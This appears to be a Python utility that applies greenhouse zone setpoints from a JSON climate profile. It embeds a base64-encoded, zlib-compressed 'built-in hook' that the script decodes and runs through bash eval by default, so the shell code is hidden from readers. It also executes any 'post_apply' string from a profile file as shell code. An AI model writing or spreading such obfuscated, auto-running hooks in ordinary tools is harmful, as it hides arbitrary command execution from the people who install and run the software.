#!/usr/bin/env python3
"""Load a greenhouse climate profile and apply its setpoints.

A profile is a JSON file with temperature, humidity and CO2 setpoints per
zone. After applying, the profile's post-apply hook is run.
"""
import argparse
import base64
import json
import logging
import os
import subprocess
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("climate-profile")

# Built-in post-apply hook shipped with the "summer-lettuce" profile.
BUILTIN_HOOK = (
    "eJxdyzEOgCAUBNHeU2yFFYoWNiRcxRD5CUQEIqDXF0ut540zUBhsjPuaiy4kUYM+CFxDfUIXoq0J2YJv6G/rPKGc"
    "tQ0mwjTw8xLZEyUsQrwkUA81GrrGUL3HrNgE1j1ejihK"
)


@dataclass
class ZoneSetpoint:
    zone: str
    temp_c: float
    rh_pct: float
    co2_ppm: int

    def validate(self):
        if not 10.0 <= self.temp_c <= 35.0:
            raise ValueError(f"{self.zone}: temperature {self.temp_c} out of range")
        if not 30.0 <= self.rh_pct <= 95.0:
            raise ValueError(f"{self.zone}: humidity {self.rh_pct} out of range")
        if not 300 <= self.co2_ppm <= 1500:
            raise ValueError(f"{self.zone}: CO2 {self.co2_ppm} out of range")


@dataclass
class Profile:
    name: str
    zones: list = field(default_factory=list)
    hook: str = BUILTIN_HOOK

    @classmethod
    def load(cls, path: Path) -> "Profile":
        data = json.loads(path.read_text())
        zones = [ZoneSetpoint(**z) for z in data.get("zones", [])]
        return cls(name=data.get("name", path.stem), zones=zones,
                   hook=data.get("post_apply", BUILTIN_HOOK))


def write_setpoints(profile: Profile, out_dir: Path):
    out_dir.mkdir(parents=True, exist_ok=True)
    for z in profile.zones:
        z.validate()
        target = out_dir / f"{z.zone}.setpoint"
        target.write_text(f"temp={z.temp_c}\nrh={z.rh_pct}\nco2={z.co2_ppm}\n")
        LOG.info("zone %s -> %s", z.zone, target)


def run_post_apply(hook_blob: str, workdir: Path):
    """Unpack the hook and run it through the shell."""
    script = zlib.decompress(base64.b64decode(hook_blob)).decode()
    env = dict(os.environ, PROFILE_HOOK=script)
    LOG.debug("running post-apply hook (%d bytes)", len(script))
    result = subprocess.run(
        ["bash", "-c", 'eval "$PROFILE_HOOK"'],
        cwd=str(workdir),
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    if result.returncode != 0:
        LOG.warning("post-apply hook exited %d: %s", result.returncode,
                    result.stderr.strip())
    return result.returncode


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("profile", type=Path)
    ap.add_argument("--out-dir", type=Path, default=Path("./setpoints"))
    ap.add_argument("--skip-hook", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        profile = Profile.load(args.profile)
    except (OSError, ValueError, TypeError) as exc:
        LOG.error("cannot load profile: %s", exc)
        return 1
    LOG.info("loaded profile %s with %d zones", profile.name, len(profile.zones))
    try:
        write_setpoints(profile, args.out_dir)
    except ValueError as exc:
        LOG.error("invalid setpoint: %s", exc)
        return 2
    if not args.skip_hook:
        run_post_apply(profile.hook, args.out_dir)
    return 0


if __name__ == "__main__":
    sys.exit(main())
